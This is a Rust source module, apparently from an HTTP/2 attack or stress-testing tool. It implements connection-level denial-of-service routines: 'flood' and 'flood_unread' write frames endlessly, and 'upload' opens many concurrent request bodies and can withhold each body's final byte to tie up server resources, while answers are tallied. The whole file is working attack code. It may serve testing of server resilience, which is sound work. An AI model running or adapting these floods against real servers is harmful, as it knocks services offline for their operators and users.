//! A connection of an attack, for arbitrary frames and counted answers.

use std::{collections::HashMap, io};

use tokio::{
    io::{AsyncRead, AsyncWriteExt as _},
    net::TcpStream,
};

use super::frame::{Block, Frame, Frames, flag, kind};
use crate::attack::scene::{Scene, Tally};

/// The default window of a stream and of a connection.
const DEFAULT_WINDOW: i64 = 65_535;
/// The default limit of data in a frame.
const LARGEST_FRAME: usize = 16_384;

/// Opens a connection, and keeps writing the frames of `next`.
/// Answers are read and counted meanwhile.
pub(super) async fn flood(
    scene: &Scene,
    settings: &[(u16, u32)],
    mut next: impl FnMut() -> Frames,
) -> io::Result<()> {
    let (mut reading, mut writing) = scene.connect().await?.into_split();
    let write = async {
        writing.write_all(&Frames::opening(settings).0).await?;
        loop {
            writing.write_all(&next().0).await?;
        }
    };
    tokio::select! {
        ended = write => ended,
        ended = count(&mut reading, &scene.tally) => ended,
    }
}

/// Writes frames on a new connection, then only reads and counts.
pub(super) async fn send_and_wait(scene: &Scene, frames: Frames) -> io::Result<()> {
    let mut stream = scene.connect().await?;
    stream.write_all(&frames.0).await?;
    count(&mut stream, &scene.tally).await
}

/// Keeps writing the frames of `next`, and reads nothing.
pub(super) async fn flood_unread(
    stream: &mut TcpStream,
    mut next: impl FnMut() -> Frames,
) -> io::Result<()> {
    loop {
        stream.write_all(&next().0).await?;
    }
}

/// Reads frames to the end of a connection, and counts the answers.
pub(super) async fn count(reading: &mut (impl AsyncRead + Unpin), tally: &Tally) -> io::Result<()> {
    loop {
        let frame = Frame::read(reading).await?;
        if frame.is_answer() {
            tally.answered(frame.is_success());
        }
        if frame.kind == kind::GOAWAY {
            return Ok(());
        }
    }
}

/// Uploads bodies at once on one connection, within the server's windows.
/// The last piece of each is kept back, unless `finished`.
pub(super) async fn upload(
    scene: &Scene,
    head: impl Fn() -> Block,
    bodies: u32,
    body: &[u8],
    finished: bool,
) -> io::Result<()> {
    let mut stream = scene.connect().await?;
    let mut frames = Frames::opening(&[]);
    let mut left = HashMap::new();
    for number in 0..bodies {
        frames = frames.head(2 * number + 1, &head());
        left.insert(2 * number + 1, (0, DEFAULT_WINDOW));
    }
    stream.write_all(&frames.0).await?;
    let end = if finished { body.len() } else { body.len() - 1 };
    let (mut connection, mut initial) = (DEFAULT_WINDOW, DEFAULT_WINDOW);
    loop {
        for (id, (at, window)) in &mut left {
            while *at < end {
                let most = (*window).min(connection).max(0) as usize;
                let length = most.min(LARGEST_FRAME).min(end - *at);
                if length == 0 {
                    break;
                }
                let is_last = finished && *at + length == end;
                let flags = if is_last { flag::END_STREAM } else { 0 };
                let piece = Frames::default().add(kind::DATA, flags, *id, &body[*at..*at + length]);
                stream.write_all(&piece.0).await?;
                *at += length;
                *window -= length as i64;
                connection -= length as i64;
            }
        }
        let frame = Frame::read(&mut stream).await?;
        let number = |bytes: &[u8]| bytes.try_into().map_or(0, u32::from_be_bytes);
        match frame.kind {
            kind::WINDOW if frame.stream == 0 => connection += i64::from(number(&frame.payload)),
            kind::WINDOW => {
                if let Some((_, window)) = left.get_mut(&frame.stream) {
                    *window += i64::from(number(&frame.payload));
                }
            }
            kind::SETTINGS if frame.flags & flag::ACK == 0 => {
                for pair in frame
                    .payload
                    .chunks_exact(6)
                    .filter(|pair| pair[..2] == [0, 4])
                {
                    let window = i64::from(number(&pair[2..]));
                    for (_, of_stream) in left.values_mut() {
                        *of_stream += window - initial;
                    }
                    initial = window;
                }
            }
            kind::HEADERS => {
                scene.tally.answered(frame.is_success());
                left.remove(&frame.stream);
            }
            kind::RESET => drop(left.remove(&frame.stream)),
            kind::GOAWAY => return Ok(()),
            _ => {}
        }
        if left.is_empty() {
            return Ok(());
        }
    }
}
